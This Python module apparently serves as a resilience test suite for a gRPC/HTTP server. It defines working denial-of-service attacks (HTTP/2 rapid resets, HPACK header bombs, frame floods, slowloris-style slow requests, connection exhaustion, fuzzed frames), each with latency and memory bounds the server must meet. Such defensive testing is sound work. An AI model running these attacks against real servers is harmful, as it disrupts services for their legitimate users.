"""The attacks by name, each with its number of connections and the bounds of its effect on other clients.

An attack is a function of an address that continues until its process is killed. If it returns early, for example
because the server closed its connection, it is started again, as an attacker would do. An attack does not measure its
effect. On loopback, a process of attackers uses one source address, `ATTACKER_HOST`, so that servers and proxies can
distinguish it from well-behaved clients.
"""

import json
import os
import socket
import struct
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress
from itertools import count
from random import Random
from typing import NamedTuple

from attack_payloads import (
    BATCH,
    SMALL,
    STATIC,
    STREAM,
    build_frames,
    build_linked_batch,
    build_odd_strides,
    encode_call,
)
from http2 import END_HEADERS, HEALTH_CHECK, HEALTH_WATCH, PREFACE, REFLECTION, Connection, Kind, frame, grpc_message
from plain_requests import build_begin, build_request, build_static_request


class Bounds(NamedTuple):
    """The largest allowed effect of an attack on well-behaved clients, which use other connections.

    Calls of the SDK may never be rejected, and no call may be lost.
    """

    p50_ms: float = 50.0  # median time of a call, of raw clients and the SDK together
    p99_ms: float = 100.0  # 99th percentile of the same times
    health_p99_ms: float = 100.0  # 99th percentile of the time of health checks
    http_p99_ms: float = 100.0  # 99th percentile of the time of calls over HTTP
    rejections: float = 0  # number of rejected calls of raw clients
    recovery_seconds: float = 1.0  # time from the end of the attack to the end of the last slow or failed call
    # memory of the server in addition to that before the attack
    memory_mib: float = 1024 * 1.15  # the default budget and losses of the allocator


ONE, MANY = Bounds(), Bounds(p50_ms=100, p99_ms=500, http_p99_ms=500, rejections=float("inf"))
EDGE = Bounds(memory_mib=64)
"""Bounds of attacks that do not reach the server if a proxy is in front of it."""


class Attack(NamedTuple):
    """One attack with its number of connections and its bounds."""

    run: Callable[..., None]  # attacks an address until its process ends
    connections: int = 1  # how many threads run it at the same time. Each may open more than one connection
    bounds: Bounds = ONE  # the largest allowed effect on other clients
    is_http: bool = False  # whether it attacks the HTTP port, which the proxies do not forward
    needs_proxy: bool = False  # whether only a proxy stops it
    least_seconds: float = 0.0  # the shortest duration that shows its effect
    number: int = 0  # the number of calls on each connection; 0: the default of the attack
    has_shared_address: bool = False  # whether the attacker has the address of the well-behaved clients

    @property
    def name(self) -> str:
        name = self.run.__name__.replace("_", "-") + (f"-{self.connections}" if self.connections > 1 else "")
        return name + (f"x{self.number}" if self.number else "") + ("-shared" if self.has_shared_address else "")

    def attack(self, address: str) -> None:
        """Attacks an address until the server closes the connection."""
        self.run(address, *([self.number] if self.number else []))

    @property
    def sentence(self) -> str:
        sentence = " ".join((self.run.__doc__ or "").split())
        if self.number:
            sentence = f"{sentence[:-1]}, but {self.number} at once."
        if self.has_shared_address:
            sentence = f"{sentence[:-1]}, from the address of the other clients."
        if self.connections == 1:
            return sentence
        return f"On each of {self.connections} connections, {sentence[0].lower()}{sentence[1:]}"


ATTACKER_HOST = f"127.1.{os.getpid() >> 8 & 255}.{os.getpid() & 255}"
"""A source address of this process only. Otherwise a proxy would still block an attack because of the previous one."""


attacker_host: str | None = ATTACKER_HOST
"""The source address of this process. None: the address that the system chooses, which other clients have, too."""


def find_source(address: str) -> tuple[str, int] | None:
    return (attacker_host, 0) if attacker_host and address.startswith("127.") else None


def connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), 5, find_source(address))


def keep_connections(address: str, number: int, greeting: bytes, more: bytes = b"") -> None:
    """Opens connections and sends bytes on each every second. A closed connection is opened again."""
    with ExitStack() as stack:
        kept: dict[int, socket.socket] = {}
        while True:
            for index in range(number):
                try:
                    if index not in kept:
                        kept[index] = stack.enter_context(connect(address))
                        kept[index].sendall(greeting)
                    elif more:
                        kept[index].sendall(more)
                except OSError:
                    kept.pop(index, None)
            time.sleep(1)


MIB = 1 << 20

_REST_SECONDS = 3600.0
_STREAMS = 120  # below the limit of concurrent streams of a connection
_MANY = 200
_MAX_STREAM = 2**31 - 1
_CANCEL = b"\0\0\0\x08"
_GREETING = PREFACE + frame(Kind.SETTINGS, 0, 0)


def _open(
    address: str, *, initial_window: int | None = None, reads: bool = True, acknowledges: bool = True
) -> Connection:
    source = find_source(address)
    return Connection(address, initial_window=initial_window, reads=reads, acknowledges=acknowledges, source=source)


def _rest(connection: Connection) -> None:
    """Waits until the server closes the connection."""
    connection.await_(lambda: bool(connection.closed), seconds=_REST_SECONDS)


def no_attack(_: str) -> None:
    """No attack, for comparison."""
    time.sleep(_REST_SECONDS)


def _hold_calls(address: str, path: str, first: bytes = b"", number: int = _STREAMS) -> None:
    """Begins calls and sends nothing else. A call that the server ends is begun again."""
    with _open(address) as connection:
        streams: list[int] = []
        while not connection.closed:
            streams = [stream for stream in streams if not connection.is_over(stream)]
            while len(streams) < number:
                streams.append(connection.open(path))
                if first:
                    connection.send_data(streams[-1], first, seconds=1)
            connection.await_(lambda: bool(connection.closed), seconds=0.1)


def silent_calls(address: str, number: int = _STREAMS) -> None:
    """Calls that never send their message, as many as one connection may have."""
    _hold_calls(address, STATIC, number=number)


def health_watches(address: str, number: int = _STREAMS) -> None:
    """Health watches, as many as one connection may have."""
    _hold_calls(address, HEALTH_WATCH, grpc_message(b""), number)


def silent_health_checks(address: str) -> None:
    """Health checks that never send their message, as many as one connection may have."""
    _hold_calls(address, HEALTH_CHECK)


def one_byte_short(address: str) -> None:
    """Messages of 16 MiB whose last byte never arrives."""
    whole = grpc_message(bytes(16 * MIB))
    with _open(address) as connection:
        for _ in range(3):
            connection.send_data(connection.open(STATIC), whole[:-1], seconds=10)
        _rest(connection)


def stalled_streams(address: str, number: int = _STREAMS) -> None:
    """Streams whose header announces a tensor of 1 GiB that never arrives."""
    _hold_calls(address, STREAM, grpc_message(build_begin(((1 << 30) // 4,))), number)


def silent_call(address: str) -> None:
    """One call that never sends its message."""
    _hold_calls(address, STATIC, number=1)


def trickling_call(address: str) -> None:
    """One call of 1 KiB that sends one byte each second."""
    _trickle(address, 1024)


def large_trickling_call(address: str) -> None:
    """One call of 16 MiB that sends one byte each second."""
    _trickle(address, 16 * MIB)


def _trickle(address: str, size: int) -> None:
    with _open(address) as connection:
        stream = connection.open(STATIC)
        connection.send(frame(Kind.DATA, 0, stream, b"\0" + size.to_bytes(4, "big")))
        while not connection.await_(lambda: connection.is_over(stream), seconds=1):
            connection.send(frame(Kind.DATA, 0, stream, b"\x00"))


def idle_connections(address: str) -> None:
    """3,000 connections without calls."""
    keep_connections(address, 3000, _GREETING)


def full_connections(address: str) -> None:
    """5,000 connections without calls, which is more than the server accepts."""
    keep_connections(address, 5000, _GREETING)


def disconnects(address: str) -> None:
    """Disconnects in every state of a call: full close, half-close, and TCP reset."""
    message = frame(Kind.DATA, 0, 1, grpc_message(SMALL)) + frame(Kind.RST_STREAM, 0, 1, _CANCEL)
    kept: list[socket.socket] = []
    while True:
        for path in (STATIC, STREAM, BATCH, HEALTH_CHECK, HEALTH_WATCH, REFLECTION):
            call = _GREETING + frame(Kind.HEADERS, END_HEADERS, 1, encode_call(path)) + message
            for size in range(0, len(call) + 1, 8):
                with suppress(OSError):
                    connection = connect(address)
                    connection.sendall(call[:size])
                    if size % 3 == 0:
                        connection.shutdown(socket.SHUT_WR)
                        kept.append(connection)
                        continue
                    if size % 3 == 1:
                        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
                    connection.close()
                time.sleep(0.002)
        while kept:
            kept.pop().close()


def short_connections(address: str) -> None:
    """Connections that are closed as soon as they are open, as many as possible."""
    for number in count():
        with connect(address) as connection:
            connection.sendall(_GREETING)
        if number % 100 == 0:
            time.sleep(0.01)


def _flood(address: str, frames: bytes, first: bytes = b"") -> None:
    with _open(address) as connection:
        connection.send(first)
        while not connection.closed:
            connection.send(frames)


def window_updates(address: str) -> None:
    """WINDOW_UPDATE frames that add one byte to the window of the connection and of a stream."""
    updates = frame(Kind.WINDOW_UPDATE, 0, 0, b"\0\0\0\1") + frame(Kind.WINDOW_UPDATE, 0, 1, b"\0\0\0\1")
    _flood(address, updates * _MANY, frame(Kind.HEADERS, END_HEADERS, 1, encode_call(STREAM)))


def control_frames(address: str) -> None:
    """By turns PING frames on one connection and SETTINGS frames on a connection that the client does not read."""
    pings = frame(Kind.PING, 0, 0, b"x" * 8) * _MANY
    settings = frame(Kind.SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff") * _MANY
    with _open(address) as reader, _open(address, reads=False) as deaf:
        for connection in (reader, deaf):
            connection.socket.settimeout(0.3)
        while not reader.closed:
            reader.send(pings)
            deaf.send(settings)


def rapid_resets(address: str) -> None:
    """Calls that are reset as soon as they have begun."""
    _call_always(address, lambda stream: frame(Kind.RST_STREAM, 0, stream, _CANCEL))


def oversized_messages(address: str) -> None:
    """Calls, one after another, that each announce a message of 4 GiB."""
    _call_always(address, lambda stream: frame(Kind.DATA, 0, stream, b"\x00\xff\xff\xff\xff"), 1, awaits=True)


def small_calls(address: str, number: int = _STREAMS) -> None:
    """Valid small calls, 120 at once, as fast as the server responds."""
    request = grpc_message(SMALL)
    _call_always(address, lambda stream: frame(Kind.DATA, 1, stream, request), number, awaits=True)


def _call_always(address: str, follow: Callable[[int], bytes], at_once: int = _MANY, *, awaits: bool = False) -> None:
    """Begins `at_once` calls, each followed by some frames, and can wait for the end of the last one."""
    block = encode_call(STATIC)
    with _open(address) as connection:
        for first in range(1, _MAX_STREAM, 2 * at_once):
            streams = range(first, first + 2 * at_once, 2)
            connection.send(
                b"".join(frame(Kind.HEADERS, END_HEADERS, stream, block) + follow(stream) for stream in streams)
            )
            if awaits:
                connection.await_end(streams[-1], seconds=5)
            if connection.closed:
                return


def many_headers(address: str) -> None:
    """Calls with 1,000 headers each."""
    with _open(address) as connection:
        _send_calls(connection, encode_call(STATIC, *((f"x-{number}", "y") for number in range(1000))), 1)


def header_bombs(address: str) -> None:
    """Calls that each reference one header of 4,000 bytes in the HPACK table 16,000 times."""
    _send_bombs(address, b"\x7f\xa1\x1e" + b"y" * 4000, 16000)


def early_header_bombs(address: str) -> None:
    """The same with 2,000 references, before the client acknowledges the settings and with them the limits."""
    _send_bombs(address, b"\x7f\xa1\x1e" + b"y" * 4000, 2000, acknowledges=False)


def early_small_bombs(address: str) -> None:
    """Calls that each reference one empty header 400,000 times, before the client acknowledges the settings."""
    _send_bombs(address, b"\0", 400_000, acknowledges=False)


def early_garbled_bombs(address: str) -> None:
    """The same with a value that is not text, which takes the receiver ten times as long to detect."""
    _send_bombs(address, b"\x01\xff", 400_000, acknowledges=False)


def _send_bombs(address: str, value: bytes, times: int, *, acknowledges: bool = True) -> None:
    """Stores a header in the HPACK table and references it in all later calls. `value` is encoded as in HPACK."""
    with _open(address, acknowledges=acknowledges) as connection:
        connection.send(frame(Kind.HEADERS, END_HEADERS, 1, encode_call(STATIC) + b"\x40\x01x" + value))
        _send_calls(connection, encode_call(STATIC) + b"\xbe" * times, 3)


def _send_calls(connection: Connection, block: bytes, first: int) -> None:
    """Begins calls with a block of headers and resets each of them."""
    pieces = [block[begin : begin + 16384] for begin in range(0, len(block), 16384)]
    for stream in range(first, _MAX_STREAM, 2):
        if connection.closed:
            return
        for number, piece in enumerate(pieces):
            kind = Kind.CONTINUATION if number else Kind.HEADERS
            connection.send(frame(kind, END_HEADERS if number == len(pieces) - 1 else 0, stream, piece))
        connection.send(frame(Kind.RST_STREAM, 0, stream, _CANCEL))


def zero_windows(address: str) -> None:
    """Requests of a few bytes that have responses of 16 MiB, which the client never reads."""
    request = grpc_message(build_request((4 * MIB - 16,), bytes(4), strides=[0]))  # all elements are the same byte
    with _open(address, initial_window=0) as connection:
        for _ in range(_STREAMS):
            connection.send_data(connection.open(STATIC), request, end=True, seconds=5)
        _rest(connection)


def large_calls(address: str) -> None:
    """Valid calls of 16 MiB, four at once, as fast as the server responds."""
    _ask_always(address, STATIC, build_static_request(16 * MIB - 64), at_once=4)


def linked_batches(address: str) -> None:
    """Batches of 4 MiB with items of 39 bytes, which each refer to eight unknown dimensions of the first item."""
    _ask_always(address, BATCH, build_linked_batch(4 * MIB - 4096))


def odd_strides(address: str) -> None:
    """Headers of streams whose strides take long to check."""
    _ask_always(address, STREAM, build_odd_strides(), at_once=60, seconds=0.2)


def _ask_always(address: str, path: str, request: bytes, *, at_once: int = 8, seconds: float = 300.0) -> None:
    """Makes `at_once` calls again and again. A call that takes longer than `seconds` is reset."""
    message = grpc_message(request)
    with _open(address) as connection:
        while not connection.closed:
            streams = [connection.open(path) for _ in range(at_once)]
            for stream in streams:
                connection.send_data(stream, message, end=True)
            for stream in streams:
                if connection.await_end(stream, seconds=seconds).status == "TIMEOUT":
                    connection.send(frame(Kind.RST_STREAM, 0, stream, _CANCEL))
                connection.bodies.pop(stream, None)


_SEEDS = count()  # for all connections of this process


def random_frames(address: str) -> None:
    """Calls whose frames are changed, moved, cut and mixed with random bytes."""
    while True:
        random = Random(next(_SEEDS))
        with suppress(OSError), connect(address) as connection:
            connection.settimeout(0.05)
            raw = build_frames(random)
            for part in (raw[: len(raw) // 2], raw[len(raw) // 2 :]) if random.random() < 0.2 else (raw,):
                connection.sendall(part)
            if random.random() < 0.1:
                connection.shutdown(socket.SHUT_WR)
            while random.random() < 0.8 and connection.recv(65536):
                pass


_QUESTION_BYTES = 63 * 1024  # a question may have 64 KiB
_CLOSE = b"\r\nConnection: close"
_INFER = b"/v2/models/reshape/infer"
_CHUNKED = b"Connect-Protocol-Version: 1\r\nTransfer-Encoding: chunked"


def slow_posts(address: str) -> None:
    """300 POST requests over HTTP that send one byte each second."""
    keep_connections(address, 300, _write_post(b"Content-Length: 1000") + b"{", b" ")


def slow_headers(address: str) -> None:
    """300 requests over HTTP whose headers arrive one byte each second."""
    keep_connections(address, 300, b"POST / HTTP/1.1\r\nX: ", b"a")


def idle_http_connections(address: str) -> None:
    """600 connections over HTTP without requests, which is more than the server accepts."""
    keep_connections(address, 600, b"")


def pipelined_requests(address: str) -> None:
    """Requests over HTTP that follow each other without a pause, and whose responses are never read."""
    _send_for_ever(address, _write_post(b"Content-Length: 2") + b"{}")


def large_http_headers(address: str) -> None:
    """Requests over HTTP with endless headers."""
    _send_for_ever(address, b"x: %b\r\n" % bytes(1000).replace(b"\0", b"a"), b"POST / HTTP/1.1\r\n")


def large_http_bodies(address: str) -> None:
    """Inference requests over REST that announce a body of 1 GB, and send it as fast as possible."""
    _send_for_ever(address, bytes(MIB), _write_post(b"Content-Length: 999999999", _INFER))


def large_http_chunks(address: str) -> None:
    """Requests of the Connect protocol with chunks of 1 MiB, as fast as possible."""
    _send_for_ever(address, b"100000\r\n%b\r\n" % bytes(MIB), _write_post(_CHUNKED))


def endless_chunks(address: str) -> None:
    """Requests of the Connect protocol whose body never ends, in chunks of one byte."""
    _send_for_ever(address, b"1\r\na\r\n" * 10_000, _write_post(_CHUNKED))


def half_closed_requests(address: str) -> None:
    """Requests over HTTP whose client closes its half of the connection before the response."""
    with connect(address) as connection:
        connection.sendall(_write_post(b"Content-Length: 2") + b"{}")
        connection.shutdown(socket.SHUT_WR)
        while connection.recv(65536):
            pass


def long_json_responses(address: str) -> None:
    """Inference requests over REST with 4 MiB of raw elements, for which the server sends 12 MiB of JSON."""
    payload = struct.pack("<d", -1.2345678901234567e-300) * (4 * MIB // 8)
    size = {"binary_data_size": len(payload)}
    data = {"name": "data", "datatype": "FP64", "shape": [4 * MIB // 8], "parameters": size}
    parameters = {"shape": "[-1]", "special_zero": False}
    head = json.dumps({"inputs": [data], "parameters": parameters}).encode()
    lengths = b"Content-Length: %d\r\nInference-Header-Content-Length: %d" % (len(head) + len(payload), len(head))
    _ask_for_ever(address, _write_post(lengths + _CLOSE, _INFER) + head + payload)


def empty_partial_dims(address: str) -> None:
    """Shape queries over HTTP with 63 KiB of JSON, which contains thousands of empty partial dimensions."""
    begin = b'{"operation":"OPERATION_RESHAPE","special_zero":true,"shape":{"items":["-1"]},'
    begin, end = begin + b'"data":{"shape":{"dims":["-1"],"partial":[{}', b"]}}}"
    body = begin + b",{}" * ((_QUESTION_BYTES - len(begin) - len(end)) // 3) + end
    _ask_for_ever(address, _write_post(b"Content-Length: %d" % len(body) + _CLOSE) + body)


def _write_post(line: bytes, target: bytes = b"/tensor_reshape.v1.ReshapeService/InferShape") -> bytes:
    return b"POST %b HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n%b\r\n\r\n" % (target, line)


def _ask_for_ever(address: str, request: bytes) -> None:
    """Sends a request on one connection after another, and reads each response."""
    while True:
        with connect(address) as connection:
            connection.settimeout(None)
            connection.sendall(request)
            while connection.recv(MIB):
                pass


def _send_for_ever(address: str, repeated: bytes, first: bytes = b"") -> None:
    with connect(address) as connection:
        connection.settimeout(None)
        connection.sendall(first)
        while True:
            connection.sendall(repeated)


def _find_bounds(run: Callable[..., None], connections: int, *, is_shared: bool) -> Bounds:
    """Returns the bounds of an attack of one address. Valid calls use more processor time than calls that wait."""
    if is_shared and connections > _FEW:
        return Bounds(p50_ms=4000, p99_ms=4000, health_p99_ms=4000, http_p99_ms=4000)
    p50_ms = 150 if is_shared else 50 if run in (small_calls, health_watches) else 15
    p99_ms = 300 if connections <= _FEW else 1500
    return Bounds(p50_ms=p50_ms, p99_ms=p99_ms, health_p99_ms=p99_ms, http_p99_ms=p99_ms)


_FEW = 16  # connections of one address, of which other clients of the address notice little

ONE_ADDRESS = tuple(
    Attack(
        run,
        connections,
        _find_bounds(run, connections, is_shared=is_shared),
        number=number,
        has_shared_address=is_shared,
    )
    for run in (silent_calls, small_calls, stalled_streams, health_watches)
    for is_shared in (False, True)
    for connections, number in ((1, 0), (2, 0), (5, 0), (16, 0), (40, 0), (200, 24))
)
"""Attacks of one address with few and many connections. The well-behaved clients have another address or the same."""

ATTACKS = {
    attack.name: attack
    for attack in (
        *ONE_ADDRESS,
        Attack(no_attack),
        # Calls. The server withstands these without a proxy.
        Attack(silent_call, 200),
        Attack(silent_health_checks),
        # A supervisor kills a worker that sends no heartbeat for 10 seconds.
        Attack(silent_health_checks, 16, MANY, least_seconds=12.0),
        Attack(one_byte_short, 16, MANY),
        Attack(trickling_call, 200),
        Attack(large_trickling_call, 64),
        Attack(slow_posts, is_http=True),
        Attack(slow_headers, is_http=True),
        Attack(idle_http_connections, is_http=True),
        Attack(pipelined_requests, 16, is_http=True),
        Attack(large_http_headers, 16, is_http=True),
        Attack(large_http_bodies, 4, is_http=True),
        Attack(large_http_chunks, 4, is_http=True),
        Attack(endless_chunks, 16, is_http=True),
        Attack(half_closed_requests, 16, is_http=True),
        Attack(long_json_responses, is_http=True),
        Attack(empty_partial_dims, 16, Bounds(http_p99_ms=500), is_http=True),
        Attack(large_calls),
        Attack(oversized_messages),
        Attack(zero_windows),
        Attack(linked_batches, bounds=Bounds(p50_ms=5)),
        Attack(odd_strides),
        # Connections and frames. The server withstands these without a proxy, too.
        Attack(idle_connections),
        Attack(short_connections),
        Attack(disconnects),
        Attack(random_frames, 16, MANY),
        # Attacks on HTTP/2 itself. These need a proxy.
        Attack(full_connections, bounds=EDGE, needs_proxy=True),
        Attack(window_updates, bounds=EDGE, needs_proxy=True),
        Attack(control_frames, bounds=EDGE, needs_proxy=True),
        Attack(rapid_resets, bounds=EDGE, needs_proxy=True),
        Attack(rapid_resets, 16, EDGE, needs_proxy=True),
        Attack(many_headers, bounds=EDGE, needs_proxy=True),
        Attack(header_bombs, bounds=EDGE, needs_proxy=True),
        Attack(early_small_bombs, bounds=EDGE, needs_proxy=True),
        Attack(early_small_bombs, 16, EDGE, needs_proxy=True),
    )
}
